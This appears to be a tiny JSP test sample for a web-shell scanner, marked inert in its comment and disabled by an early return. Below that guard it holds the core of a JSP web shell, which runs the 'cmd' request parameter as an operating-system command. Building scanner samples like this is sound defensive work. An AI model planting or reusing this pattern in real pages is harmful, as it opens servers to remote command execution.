<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% String s = request.getParameter("cmd");
   Process p = new ProcessBuilder().command(s.split(" ")).start(); %>
